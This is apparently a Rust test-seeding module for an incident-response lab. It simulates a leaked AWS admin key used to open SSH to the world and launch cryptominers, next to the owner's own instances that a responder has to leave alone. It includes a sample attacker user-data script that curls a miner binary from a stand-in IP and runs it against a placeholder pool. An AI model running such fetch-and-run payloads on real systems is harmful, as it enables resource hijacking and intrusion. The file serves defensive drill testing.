//! The unauthorized EC2 launch of `shared/seeds/unauthorized-ec2-launch-playbook.md`,
//! seeded in the lab: the access key of an IAM user with administrator rights leaked; with
//! it the attacker opened SSH to the world and launched miners in two regions. The
//! account also runs the owner's own instances, launched with another user's key, in
//! the same regions: the responder must preserve every instance the leaked key launched
//! (found through CloudTrail, `--launched-by-key`) and touch nothing else.

use aws_sdk_ec2::types::{
    ArchitectureValues, Filter, InstanceType, IpPermission, IpRange, ResourceType, Tag, TagSpecification,
};
use base64::Engine;

use super::Lab;
use super::scenario::ATTACKER_IP;
use super::seed::{MEMBER_ROLE, SeedError, fail};
use crate::aws::AccountClients;
use crate::ids::{AccountId, InstanceId, Region};

/// The compromised user, as the playbook names it.
pub const ATTACKER_USER: &str = "crypto-actor";
/// The owner's deployment user, whose key launched the instances that must be left alone.
pub const OWNER_USER: &str = "ops-deploy";
/// The owner's deployment host (TEST-NET-1, documentation range).
pub const OWNER_IP: &str = "192.0.2.10";
/// The group the attacker made and opened to the world on port 22.
pub const ATTACKER_GROUP: &str = "launch-wizard-1";
/// Instances the attacker launched and left running in each region, in order: one
/// RunInstances call per region (the first region's call launches two instances in one
/// event); in the last region a probe before it, terminated since.
pub const ATTACKER_COUNTS: [i32; 2] = [2, 1];

/// The attacker's launch script (CloudTrail records it as `<sensitiveDataRemoved>`).
pub const LAUNCH_USERDATA: &str = "#!/bin/bash
curl -s http://203.0.113.66/x/xmrig -o /tmp/.x/xmrig && chmod +x /tmp/.x/xmrig
nohup /tmp/.x/xmrig -o stratum+tcp://pool.minexmr.example:4444 -u 44AFFq5k --donate-level 1 &
";

/// One seeded instance and what a test checks on it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Placed {
    pub account: AccountId,
    pub region: Region,
    pub instance: InstanceId,
    /// Its EBS volumes (the root volume moto made at launch).
    pub volumes: Vec<String>,
    /// Its security groups at launch.
    pub groups: Vec<String>,
}

impl Placed {
    pub fn arn(&self) -> String {
        crate::ids::instance_arn(&self.region, &self.account, &self.instance)
    }
}

/// What the seeded incident holds.
#[derive(Debug, Clone)]
pub struct Launched {
    pub account: AccountId,
    /// The two regions of the incident, as given.
    pub regions: Vec<Region>,
    pub user: String,
    /// The leaked access key id: what `--launched-by-key` is given.
    pub access_key: String,
    /// Every instance the leaked key launched ([`ATTACKER_COUNTS`] per region).
    pub attacker: Vec<Placed>,
    /// The owner's instances (one per region), launched with another user's key.
    pub bystanders: Vec<Placed>,
    /// The attacker's first try in the last region, launched with the key and then
    /// terminated: in CloudTrail, nothing left to preserve.
    pub terminated: Vec<Placed>,
    /// (region, group id) of the group the attacker opened on port 22 to 0.0.0.0/0.
    pub open_groups: Vec<(Region, String)>,
}

/// Seeds the member `account` of the incident in `regions` (two): the member role, the
/// hand-off key in each region, the compromised user and its key, the attacker's
/// instances and open group, and the owner's instances. `work` is unused for now (no
/// disk image is seeded: the root volumes are empty) and kept for the drill's signature.
pub async fn unauthorized_launch(
    lab: &Lab,
    account: &AccountId,
    regions: &[Region],
    forensics: &AccountId,
    _work: &std::path::Path,
) -> Result<Launched, SeedError> {
    if regions.len() != ATTACKER_COUNTS.len() {
        return Err(fail("regions")(format!("expected {} regions, got {regions:?}", ATTACKER_COUNTS.len())));
    }
    let home = &regions[0];
    super::seed::role(lab, account, home, MEMBER_ROLE).await?;
    for region in regions {
        super::seed::handoff_key(lab, account, region, forensics).await?;
    }
    let c = lab.clients(account, home);

    // The compromised user (AdministratorAccess, as in the playbook) and the owner's
    // deployment user, each with an access key.
    let (attacker_key, attacker_secret) = user_with_key(&c, ATTACKER_USER).await?;
    // Inline, with AdministratorAccess's document: the lab does not load AWS managed
    // policies (moto's MOTO_IAM_LOAD_MANAGED_POLICIES is off).
    c.iam
        .put_user_policy()
        .user_name(ATTACKER_USER)
        .policy_name("AdministratorAccess")
        .policy_document(
            r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}"#,
        )
        .send()
        .await
        .map_err(fail("grant AdministratorAccess"))?;
    let (owner_key, owner_secret) = user_with_key(&c, OWNER_USER).await?;

    let mut launched = Launched {
        account: account.clone(),
        regions: regions.to_vec(),
        user: ATTACKER_USER.into(),
        access_key: attacker_key.clone(),
        attacker: vec![],
        bystanders: vec![],
        terminated: vec![],
        open_groups: vec![],
    };
    for (region, count) in regions.iter().zip(ATTACKER_COUNTS) {
        let admin = lab.clients(account, region);
        let owner = lab.clients_with_key(&owner_key, &owner_secret, region, OWNER_IP);
        let attacker = lab.clients_with_key(&attacker_key, &attacker_secret, region, ATTACKER_IP);
        let vpc = default_vpc(&admin).await?;
        let ami = admin
            .ec2
            .register_image()
            .name("ubuntu-22.04-lab")
            .root_device_name("/dev/sda1")
            .architecture(ArchitectureValues::X8664)
            .send()
            .await
            .map_err(fail("register AMI"))?;
        let ami = ami.image_id().ok_or_else(|| fail("ami id")("missing"))?.to_owned();

        // The owner's web tier first: its group and one instance, with the owner's key.
        let web = group(&owner, &vpc, "web", "web tier").await?;
        let mine = launch(&owner, account, region, &ami, &web, 1, None, "web-1").await?;
        launched.bystanders.extend(mine);

        // The attacker: a group open to the world on SSH, then the miners in it.
        let open = group(&attacker, &vpc, ATTACKER_GROUP, "launch-wizard-1 created by the console").await?;
        attacker
            .ec2
            .authorize_security_group_ingress()
            .group_id(&open)
            .ip_permissions(
                IpPermission::builder()
                    .ip_protocol("tcp")
                    .from_port(22)
                    .to_port(22)
                    .ip_ranges(IpRange::builder().cidr_ip("0.0.0.0/0").build())
                    .build(),
            )
            .send()
            .await
            .map_err(fail("open SSH to the world"))?;
        launched.open_groups.push((region.clone(), open.clone()));
        if Some(region) == regions.last() {
            // A probe that the attacker threw away before launching the real worker.
            let probe = launch(&attacker, account, region, &ami, &open, 1, None, "probe").await?;
            let ids: Vec<String> = probe.iter().map(|p| p.instance.to_string()).collect();
            attacker
                .ec2
                .terminate_instances()
                .set_instance_ids(Some(ids))
                .send()
                .await
                .map_err(fail("terminate the probe"))?;
            launched.terminated.extend(probe);
        }
        let userdata = base64::engine::general_purpose::STANDARD.encode(LAUNCH_USERDATA);
        let theirs = launch(&attacker, account, region, &ami, &open, count, Some(userdata), "worker").await?;
        launched.attacker.extend(theirs);
    }
    Ok(launched)
}

/// Creates `user` and an access key for it: (key id, secret).
async fn user_with_key(c: &AccountClients, user: &str) -> Result<(String, String), SeedError> {
    c.iam.create_user().user_name(user).send().await.map_err(fail("create user"))?;
    let key = c.iam.create_access_key().user_name(user).send().await.map_err(fail("create access key"))?;
    let key = key.access_key().ok_or_else(|| fail("access key")("missing"))?;
    Ok((key.access_key_id().to_owned(), key.secret_access_key().to_owned()))
}

/// The region's default VPC (moto makes one in every region of every account, as AWS does).
async fn default_vpc(c: &AccountClients) -> Result<String, SeedError> {
    let out = c
        .ec2
        .describe_vpcs()
        .filters(Filter::builder().name("is-default").values("true").build())
        .send()
        .await
        .map_err(fail("find the default VPC"))?;
    out.vpcs().first().and_then(|v| v.vpc_id()).map(str::to_owned).ok_or_else(|| fail("default VPC")("none"))
}

async fn group(c: &AccountClients, vpc: &str, name: &str, description: &str) -> Result<String, SeedError> {
    let out = c
        .ec2
        .create_security_group()
        .group_name(name)
        .description(description)
        .vpc_id(vpc)
        .send()
        .await
        .map_err(fail("create security group"))?;
    out.group_id().map(str::to_owned).ok_or_else(|| fail("group id")("missing"))
}

/// One RunInstances call for `count` instances in the default VPC, signed by `c`'s key
/// (so the lab's CloudTrail records it under that key).
#[allow(clippy::too_many_arguments)]
async fn launch(
    c: &AccountClients,
    account: &AccountId,
    region: &Region,
    ami: &str,
    group: &str,
    count: i32,
    userdata: Option<String>,
    name: &str,
) -> Result<Vec<Placed>, SeedError> {
    let run = c
        .ec2
        .run_instances()
        .image_id(ami)
        .instance_type(InstanceType::T3Micro)
        .min_count(count)
        .max_count(count)
        .security_group_ids(group)
        .set_user_data(userdata)
        .block_device_mappings(
            aws_sdk_ec2::types::BlockDeviceMapping::builder()
                .device_name("/dev/sda1")
                .ebs(aws_sdk_ec2::types::EbsBlockDevice::builder().volume_size(1).build())
                .build(),
        )
        .tag_specifications(
            TagSpecification::builder()
                .resource_type(ResourceType::Instance)
                .tags(Tag::builder().key("Name").value(name).build())
                .build(),
        )
        .send()
        .await
        .map_err(fail("launch instances"))?;
    let mut placed = Vec::new();
    for i in run.instances() {
        let instance: InstanceId = i
            .instance_id()
            .ok_or_else(|| fail("instance id")("missing"))?
            .parse()
            .map_err(fail("instance id"))?;
        let volumes = i
            .block_device_mappings()
            .iter()
            .filter_map(|m| m.ebs().and_then(|e| e.volume_id()).map(str::to_owned))
            .collect();
        let groups = i.security_groups().iter().filter_map(|g| g.group_id().map(str::to_owned)).collect();
        placed.push(Placed { account: account.clone(), region: region.clone(), instance, volumes, groups });
    }
    if placed.len() != count as usize {
        return Err(fail("launch instances")(format!("asked for {count}, got {}", placed.len())));
    }
    Ok(placed)
}
